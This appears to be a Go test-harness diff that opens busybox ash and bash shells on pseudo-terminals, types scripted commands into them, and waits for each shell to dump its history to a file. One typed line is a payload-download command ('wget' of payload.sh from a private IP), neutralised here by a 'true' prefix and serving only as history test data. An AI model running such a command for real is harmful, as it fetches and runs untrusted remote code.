@@ -1,0 +1,90 @@
+package main
+
+import (
+	"errors"
+	"fmt"
+	"os"
+	"os/exec"
+	"syscall"
+	"time"
+
+	"golang.org/x/sys/unix"
+)
+
+// typed is what is typed into each shell. The last line has the shell itself write down
+// what it remembers.
+var typed = []string{
+	"echo one; cd /proc",
+	"ls | head -3",
+	"true wget -q http://10.99.0.77/payload.sh  # with  spaces",
+	"echo $$ 'quo\"ted' \\",
+	"",
+	"history > %[1]s/history.$$.new; mv %[1]s/history.$$.new %[1]s/history.$$",
+}
+
+// shells starts an interactive shell of each kind that is there, on a terminal of its own.
+func (s *server) shells() error {
+	errs := []error{s.shell([]string{s.busybox, "ash", "-i"})}
+	if path, err := exec.LookPath("bash"); err == nil {
+		errs = append(errs, s.shell([]string{path, "--norc", "-i"}))
+	}
+	return errors.Join(errs...)
+}
+
+func (s *server) shell(argv []string) error {
+	master, err := os.OpenFile("/dev/ptmx", os.O_RDWR, 0)
+	if errors.Is(err, os.ErrNotExist) {
+		return fmt.Errorf("%w (devpts is not mounted)", err)
+	}
+	if err != nil {
+		return err
+	}
+	fd := int(master.Fd())
+	n, err := unix.IoctlGetInt(fd, unix.TIOCGPTN)
+	if err == nil {
+		err = unix.IoctlSetPointerInt(fd, unix.TIOCSPTLCK, 0)
+	}
+	if err == nil {
+		err = unix.IoctlSetWinsize(fd, unix.TIOCSWINSZ, &unix.Winsize{Row: 33, Col: 99})
+	}
+	if err != nil {
+		return err
+	}
+	slave, err := os.OpenFile(fmt.Sprintf("/dev/pts/%d", n), os.O_RDWR|unix.O_NOCTTY, 0)
+	if err != nil {
+		return err
+	}
+	defer func() { _ = slave.Close() }()
+	p, err := os.StartProcess(argv[0], argv, &os.ProcAttr{
+		Env:   []string{"HISTTIMEFORMAT=%s ", "HISTFILE=/dev/null", "PATH=/bin:/usr/bin:/sbin:/usr/sbin", "TERM=dumb"},
+		Files: []*os.File{slave, slave, slave}, Sys: &syscall.SysProcAttr{Setsid: true, Setctty: true},
+	})
+	if err != nil {
+		return err
+	}
+	s.keep = append(s.keep, master)
+	go func() { // what it prints has to go somewhere
+		b := make([]byte, 4096)
+		for {
+			if _, err := master.Read(b); err != nil {
+				return
+			}
+		}
+	}()
+	for _, line := range typed {
+		if line == typed[len(typed)-1] {
+			line = fmt.Sprintf(line, s.dir)
+		}
+		if _, err := master.WriteString(line + "\n"); err != nil {
+			return err
+		}
+	}
+	const tries = 200
+	for range tries {
+		if _, err := os.Stat(s.path(fmt.Sprintf("history.%d", p.Pid))); err == nil {
+			return nil
+		}
+		time.Sleep(50 * time.Millisecond)
+	}
+	return fmt.Errorf("%s did not do what was typed", argv[0])
+}
